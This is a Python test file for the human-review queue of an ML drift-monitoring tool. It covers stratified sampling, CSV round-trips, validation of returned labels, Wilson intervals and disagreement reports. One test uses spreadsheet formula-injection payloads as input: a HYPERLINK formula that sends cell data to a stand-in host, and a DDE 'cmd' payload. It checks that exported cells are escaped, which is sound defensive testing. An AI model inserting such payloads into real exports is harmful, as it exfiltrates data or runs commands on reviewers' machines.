"""The review loop's pure parts: the queue, its CSV, the returned files' validation and the
reviewers' disagreement with the model (the stages' part: tests/stages/test_review_cycle.py)."""

from __future__ import annotations

import math
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from scipy.stats import binomtest

from driftloop.drift import DriftConfig
from driftloop.drift.html import render_html
from driftloop.drift.report import DriftReport
from driftloop.errors import ConfigError
from driftloop.review import (
    disagreement,
    read_queue,
    review_queue,
    reviewed_section,
    validate_reviews,
    wilson_interval,
    write_queue,
)

CLASSES = ["negative", "neutral", "positive"]


def frame() -> pd.DataFrame:
    """Ten rows: the predicted class and the confidence of each are chosen by hand."""
    return pd.DataFrame(
        {
            "id": [f"r{i}" for i in range(10)],
            "x": np.arange(10.0),
            "comment": [f"text {i}" for i in range(10)],
        }
    )


PRED = ["pos", "pos", "pos", "pos", "pos", "pos", "neg", "neg", "neu", "pos"]
CONF = [0.40, 0.35, 0.90, 0.50, 0.45, 0.99, 0.95, 0.60, 0.97, 0.30]


def queue(size: int, control: int = 0, seed: int = 0) -> pd.DataFrame:
    return review_queue(
        frame(), PRED, CONF, size=size, control=control, seed=seed, id_column="id", features=["x", "comment"]
    )


def test_queue_takes_an_equal_share_per_class_then_the_least_confident_overall():
    q = queue(size=6)
    # share 6 // 3 = 2 per class: neg r7 (0.60), r6 (0.95); neu only r8; pos r9 (0.30), r1 (0.35);
    # one left over goes to the least confident row not chosen: r0 (0.40, pos).
    assert q["id"].tolist() == ["r9", "r1", "r0", "r7", "r6", "r8"]
    assert q["confidence"].is_monotonic_increasing
    assert set(q["reason"]) == {"least_confident"}
    assert q.columns.tolist() == ["id", "x", "comment", "predicted_label", "confidence", "reason"]
    assert q.set_index("id").loc["r8", "predicted_label"] == "neu"
    # without stratification the three least confident would all be "pos": the rare classes
    # would never reach a reviewer.
    assert sorted(queue(size=3)["predicted_label"]) == ["neg", "neu", "pos"]


def test_queue_larger_than_the_data_takes_every_row_once():
    q = queue(size=50, control=5)
    assert sorted(q["id"]) == sorted(frame()["id"]) and (q["reason"] == "least_confident").all()


def test_control_rows_are_disjoint_seeded_and_drawn_from_the_rest():
    a, b, c = queue(size=3, control=4, seed=7), queue(size=3, control=4, seed=7), queue(size=3, control=4, seed=8)
    pd.testing.assert_frame_equal(a, b)
    picked = a.loc[a["reason"] == "least_confident", "id"]
    control = a.loc[a["reason"] == "control", "id"]
    assert len(picked) == 3 and len(control) == 4 and not set(picked) & set(control)
    draws = {tuple(queue(size=3, control=4, seed=s).query("reason == 'control'")["id"]) for s in range(20)}
    assert len(draws) > 5, "the control sample does not depend on the seed"
    assert tuple(c.query("reason == 'control'")["id"]) in draws
    # the seed is the queue's own: numpy's global state neither changes it nor is changed
    np.random.seed(1)  # noqa: NPY002 (the legacy global state is what must stay untouched)
    state = np.random.get_state()[1].copy()  # noqa: NPY002
    pd.testing.assert_frame_equal(queue(size=3, control=4, seed=7), a)
    assert (np.random.get_state()[1] == state).all()  # noqa: NPY002


def test_queue_refuses_mismatched_inputs():
    with pytest.raises(ValueError, match="10 rows but 3 predictions"):
        review_queue(frame(), ["a"] * 3, [0.5] * 3, size=1, control=0, seed=0, id_column="id", features=["x"])


def test_queue_csv_round_trip_keeps_line_breaks_and_every_missing_kind(tmp_path: Path):
    texts = ["two\nlines", 'a "quoted", comma', "crlf\r\ninside", None, np.nan, pd.NA, "NA", "null"]
    n = len(texts)
    current = pd.DataFrame(
        {
            "id": [f"{i:03d}" for i in range(n)],  # leading zeros: ids stay text
            "comment": pd.Series(texts, dtype=object),
            "stars": pd.array([1, None, 3, 4, 5, None, 2, 1], dtype="Int64"),
            "price": [1.5, np.nan, 2.0, None, 3.25, 4.0, 5.0, 6.0],
            "when": pd.to_datetime(["2026-01-01", None, "2026-01-03", pd.NaT, "2026-01-05"] + ["2026-01-06"] * 3),
            "area": pd.Categorical(["app", None, "web", "app", "web", None, "app", "web"]),
        }
    )
    q = review_queue(
        current,
        ["positive"] * n,
        np.linspace(0.3, 0.9, n),
        size=n,
        control=0,
        seed=0,
        id_column="id",
        features=["comment", "stars", "price", "when", "area"],
    )
    path = tmp_path / "review_queue.csv"
    write_queue(q, path)
    back = read_queue(path)
    assert back["id"].tolist() == q["id"].tolist()
    assert back["comment"].tolist()[:3] == ["two\nlines", 'a "quoted", comma', "crlf\r\ninside"]
    assert back["comment"].isna().tolist() == [False, False, False, True, True, True, False, False]
    assert back["comment"].tolist()[6:] == ["NA", "null"]  # text that looks missing stays text
    assert back["stars"].isna().tolist() == current["stars"].isna().tolist()
    assert back["price"].isna().tolist() == current["price"].isna().tolist()
    assert back["when"].isna().tolist() == current["when"].isna().tolist()
    assert back["area"].isna().tolist() == current["area"].isna().tolist()
    np.testing.assert_allclose(back["confidence"], q["confidence"])
    assert back["reason"].tolist() == ["least_confident"] * n
    assert b"\r\r\n" not in path.read_bytes()  # no newline translation


def test_queue_csv_escapes_cells_a_spreadsheet_would_run_and_reads_them_back(tmp_path: Path):
    texts = ['=HYPERLINK("http://evil.invalid/?"&A1, "x")', "+1+2", "-cmd|' /C calc'!A0", "@SUM(A1)", "\tlead", "\rcr"]
    texts += ["'already quoted", "plain", "a=b", None]
    n = len(texts)
    current = pd.DataFrame(
        {
            "id": ["=1+1", "-7", *[f"r{i}" for i in range(n - 2)]],
            "comment": pd.Series(texts, dtype=object),
            "delta": np.linspace(-2.0, 2.0, n),  # a negative number is a number, not a formula
        }
    )
    q = review_queue(
        current,
        ["-1"] * n,
        np.linspace(0.3, 0.9, n),
        size=n,
        control=0,
        seed=0,
        id_column="id",
        features=["comment", "delta"],
    )
    path = tmp_path / "review_queue.csv"
    write_queue(q, path)
    import csv

    with path.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    starts = ("=", "+", "-", "@", "\t", "\r")
    for row in rows:  # what a spreadsheet reads: no text cell starts like a formula
        for column in ("id", "comment", "predicted_label"):
            assert not row[column].startswith(starts), (column, row[column])
    assert [r["comment"] for r in rows][:7] == ["'" + t for t in texts[:7]]
    assert [r["comment"] for r in rows][7:9] == ["plain", "a=b"]
    assert float(rows[0]["delta"]) == -2.0  # numbers are written as numbers
    back = read_queue(path)
    assert back["id"].tolist() == q["id"].tolist()
    assert back["comment"].tolist()[:9] == texts[:9] and pd.isna(back["comment"].iloc[9])
    assert back["predicted_label"].tolist() == ["-1"] * n
    np.testing.assert_allclose(back["delta"], q["delta"])
    # A reviewer returns the id as the spreadsheet shows it, or as the file's text has it.
    returned = write(tmp_path, "r.csv", "id,label\n=1+1,neg\n'-7,pos\n")
    labels, problems = validate_reviews([returned], current["id"], ["neg", "pos"])
    assert labels.to_dict() == {"=1+1": "neg", "-7": "pos"} and problems == []


def write(folder: Path, name: str, text: str) -> Path:
    path = folder / name
    path.write_text(text, encoding="utf-8")
    return path


def test_validation_names_every_problem_and_keeps_the_rest(tmp_path: Path):
    a = write(
        tmp_path,
        "a.csv",
        "id,label,reviewer\nr1,positive,ann\nr2,great,ann\nx-404,neutral,ann\nr3,,ann\nr4,negative,ann\n",
    )
    b = write(tmp_path, "b.csv", "id,label\nr4,neutral\nr1,positive\n")  # no reviewer column: still read
    c = write(tmp_path, "c.csv", "ident,label,reviewer\nr5,neutral,bob\n")
    d = write(tmp_path, "d.csv", "")
    labels, problems = validate_reviews([a, b, c, d], [f"r{i}" for i in range(10)], CLASSES)
    assert labels.to_dict() == {"r1": "positive", "r4": "neutral"}  # r4: the last file wins
    found = [(Path(p.file).name, p.line, p.problem) for p in problems]
    assert found == [
        ("a.csv", 3, "unknown_class"),
        ("a.csv", 4, "unknown_id"),
        ("a.csv", 5, "empty"),
        ("b.csv", 2, "conflict"),
        ("c.csv", 1, "missing_column"),
        ("d.csv", None, "unreadable"),
    ]
    text = [str(p) for p in problems]
    assert "a.csv, line 3" in text[0] and "'great'" in text[0] and "['negative', 'neutral', 'positive']" in text[0]
    assert "'x-404'" in text[1] and "expected an id" in text[1]
    assert "column 'label' is empty" in text[2]
    assert "'neutral' here and 'negative' in" in text[3] and "a.csv, line 6" in text[3]
    assert "missing column(s) ['id']" in text[4] and "'id,label,reviewer'" in text[4]
    assert all("\n" not in t for t in text)  # one warning line each


def test_validation_without_known_ids_or_classes_and_for_regression(tmp_path: Path):
    a = write(tmp_path, "a.csv", "id,label\n7,1.0\n8,2\n9,abc\n")
    labels, problems = validate_reviews([a], None, None)
    assert labels.to_dict() == {"7": "1", "8": "2", "9": "abc"}  # "1.0" and "1" are one class
    assert problems == []
    values, problems = validate_reviews([a], None, None, task="regression")
    assert values.to_dict() == {"7": 1.0, "8": 2.0}
    assert [(p.line, p.problem) for p in problems] == [(4, "not_numeric")]


def test_wilson_interval_against_scipy_and_by_hand():
    # by hand: p = 5/10, z = 1.959964; centre (p + z²/2n) / (1 + z²/n) = 0.5,
    # z² = 3.841459, half-width z / (1 + z²/n) * sqrt(p(1-p)/n + z²/4n²) = 1.416009 * 0.186021 = 0.263407
    low, high = wilson_interval(5, 10)
    assert (low, high) == pytest.approx((0.236593, 0.763407), abs=1e-6)
    # 0 of 10: the upper end z² / (n + z²) = 3.841459 / 13.841459
    assert wilson_interval(0, 10) == pytest.approx((0.0, 0.277533), abs=1e-6)
    ci = binomtest(17, 40).proportion_ci(method="wilson")
    assert wilson_interval(17, 40) == pytest.approx((ci.low, ci.high))


def test_disagreement_per_predicted_class():
    predicted = pd.Series(["neutral"] * 20 + ["positive"] * 5 + ["negative"], index=[str(i) for i in range(26)])
    reviewed = {str(i): "positive" if i < 12 else "neutral" for i in range(20)}  # 12 of 20 "neutral" wrong
    reviewed |= {"20": "positive", "21": "negative", "99": "negative"}  # "99": scored by nobody
    table = disagreement(pd.Series(reviewed), predicted)
    assert table[["predicted_class", "reviewed", "disagreed"]].values.tolist() == [
        ["neutral", 20, 12],
        ["positive", 2, 1],
    ]
    row = table.iloc[0]
    assert row["rate"] == 0.6 and (row["low"], row["high"]) == pytest.approx(wilson_interval(12, 20))
    assert row["low"] > 0.38  # the ballooning class shows as a number with its interval


def test_reviewed_section_in_drift_json_and_html(tmp_path: Path):
    a = write(tmp_path, "a.csv", "id,label\n1,positive\n2,positive\n3,bogus\n")
    labels, problems = validate_reviews([a], None, CLASSES)
    table = disagreement(labels, pd.Series({"1": "neutral", "2": "positive"}))
    section = reviewed_section(table, n_reviewed=len(labels) + 1, problems=problems, model="feedback v1")
    assert section["n_scored"] == 2 and section["n_outside_windows"] == 1 and section["n_problems"] == 1
    report = DriftReport(drifted=False, share_drifted=0.0, n_reference=1, n_current=1, columns={})
    report = DriftReport(**{**report.__dict__, "reviewed_labels": section})
    d = report.to_dict()
    assert d["reviewed_labels"]["per_class"][0] == {
        "predicted_class": "neutral",
        "reviewed": 1,
        "disagreed": 1,
        "rate": 1.0,
        "low": pytest.approx(wilson_interval(1, 1)[0]),
        "high": 1.0,
    }
    metrics = report.metrics()
    assert (metrics["drift.reviewed.n"], metrics["drift.reviewed.neutral.disagreement"]) == (2.0, 1.0)
    assert metrics["drift.reviewed.positive.disagreement"] == 0.0
    html = render_html(report)
    assert "<h2>Reviewed labels</h2>" in html and "feedback v1" in html
    assert "<td>neutral</td><td>1</td><td>1</td><td>1 [" in html and "bogus" in html
    assert "Reviewed labels" not in render_html(DriftReport(False, 0.0, 1, 1, {}))


def test_review_size_is_configured_and_validated_under_drift_review():
    cfg = DriftConfig.from_dict({"review": {"size": 20, "control": 0}})
    assert (cfg.review.size, cfg.review.control) == (20, 0)
    assert (DriftConfig().review.size, DriftConfig().review.control) == (50, 10)
    with pytest.raises(ConfigError, match=r"drift\.review\.size"):
        DriftConfig.from_dict({"review": {"size": -1}})
    with pytest.raises(ConfigError, match=r"drift\.review\.sizes"):
        DriftConfig.from_dict({"review": {"sizes": 5}})
    assert not math.isnan(cfg.alpha)


def test_without_a_champion_or_for_a_regressor_the_queue_is_its_header(tmp_path: Path):
    """No class probabilities, no ranking: the drift stage writes the header alone (a DVC output
    must exist) and no reviewed-labels section."""
    from driftloop.drift_files import champion_outputs
    from driftloop.schema import Schema

    regression = Schema("id", "ts", "y", numeric=("x",), task="regression")
    classification = Schema("id", "ts", "y", numeric=("x",), text=("comment",), classes=tuple(CLASSES))
    for champion, schema in ((None, classification), (object(), regression)):
        outputs, scored = champion_outputs(champion, schema, root=tmp_path, ws=tmp_path)  # type: ignore[arg-type]
        assert outputs is None and scored.reference is None and scored.reviewed is None
        assert scored.queue.empty
        assert scored.queue.columns.tolist() == ["id", *schema.features, "predicted_label", "confidence", "reason"]
